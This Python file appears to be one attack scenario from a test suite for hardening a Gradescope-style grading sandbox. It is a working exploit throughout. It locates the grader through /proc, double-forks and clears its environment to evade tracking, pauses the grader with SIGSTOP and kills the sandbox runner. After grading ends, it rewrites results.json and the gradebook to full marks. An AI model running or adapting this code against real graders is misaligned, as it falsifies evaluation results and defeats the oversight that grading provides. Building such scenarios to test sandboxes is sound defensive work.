"""Waits for Gradescope's grading to end, then gives itself full marks in results.json."""
import ctypes
import os
import sys
import time

try:  # a name the attack catalogue's test finds this file's processes by, whatever the grader tracks
    with open("/proc/self/comm", "w") as _comm:
        _comm.write("mpgrade-attack")
except OSError:
    pass


def grader():
    """The grade process: the nearest ancestor that is not part of the sandbox (None when hidden)."""
    pid = os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/status") as status:
                parent = int(next(line for line in status if line.startswith("PPid:")).split()[1])
            with open(f"/proc/{parent}/cmdline", "rb") as cmdline:
                command = cmdline.read()
        except (OSError, StopIteration, ValueError):
            return None
        if parent <= 1:
            return None
        if b"mpgrade_scenarios" not in command and b"bwrap" not in command:
            return parent
        pid = parent
    return None


def grader_option(pid, name):
    """The value of an option on the grade command line (--submission, --out)."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
            argv = cmdline.read().decode(errors="replace").split("\0")
    except (OSError, TypeError):
        return None
    return argv[argv.index(name) + 1] if name in argv[:-1] else None

# The survivor: a heartbeat every 0.2 s, for 20 s at most; once the grader has exited, it rewrites
# the results it was told about. Its command line carries the marker; its environment is empty.
DAEMON = r"""
import json, os, sys, time
name, grader, out, forker = sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])


def rewrite(out):
    if out.endswith(".json"):  # Gradescope's results.json: the score becomes the sum of the maxima
        try:
            with open(out) as file:
                result = json.load(file)
            result["score"] = sum(test.get("max_score", 0) for test in result.get("tests", []))
            with open(out, "w") as file:
                json.dump(result, file)
        except (OSError, ValueError, TypeError):
            pass
        return
    try:
        path = os.path.join(out, "attacker", "result.json")
        with open(path) as file:
            result = json.load(file)
        result["score"] = result["max_score"]
        with open(path, "w") as file:
            json.dump(result, file)
        path = os.path.join(out, "gradebook.csv")
        with open(path) as file:
            rows = file.read().splitlines()
        rows = [row.replace(",0,", ",10,", 1) if row.startswith("attacker,") else row for row in rows]
        with open(path, "w") as file:
            file.write("\n".join(rows) + "\n")
    except (OSError, ValueError, KeyError):
        pass


if forker:  # once the process that forked it has gone, kill the adopter (the sandbox's runner)
    for _ in range(200):
        if os.getppid() != forker:
            break
        time.sleep(0.01)
    reaper = os.getppid()
    if reaper > 1:
        try:  # the grader must not look while the adopter dies: it would still see this as its child
            if grader > 1:
                os.kill(grader, 19)  # SIGSTOP
        except OSError:
            pass
        try:
            os.kill(reaper, 9)
        except OSError:
            pass
        for _ in range(200):
            if os.getppid() != reaper:
                break
            time.sleep(0.005)
        try:
            if grader > 1:
                os.kill(grader, 18)  # SIGCONT
        except OSError:
            pass

for beat in range(100):
    try:
        os.makedirs("/tmp/mpgrade-attacks/heartbeat", exist_ok=True)
        with open(f"/tmp/mpgrade-attacks/heartbeat/{name}", "w") as file:
            file.write(str(beat))
    except OSError:
        pass
    if out and grader and not os.path.exists(f"/proc/{grader}"):
        rewrite(out)
    time.sleep(0.2)
"""


def become_daemon(name, grader_pid=None, out=None, kill_reaper=False):
    """Forget the environment (and with it any token the grader looks for); carry the marker."""
    argv = [sys.executable, "-c", DAEMON, "mpgrade-attack-survivor", name, str(grader_pid or 0), out or ""]
    argv.append(str(os.getppid()) if kill_reaper else "0")
    os.execve(sys.executable, argv, {})

PR_SET_CHILD_SUBREAPER = 36


def run_in_process(target, args=()):
    grader_pid = grader()
    try:
        results = os.readlink(f"/proc/{grader_pid}/fd/1") if grader_pid else None
    except OSError:
        results = None
    if os.fork() == 0:
        os.setsid()
        ctypes.CDLL(None).prctl(PR_SET_CHILD_SUBREAPER, 0, 0, 0, 0)
        if os.fork() == 0:
            become_daemon("gradescope-daemon-rewrites-results", grader_pid, results, kill_reaper=True)
        time.sleep(0.1)
        os._exit(0)
    time.sleep(1)
    raise NotImplementedError
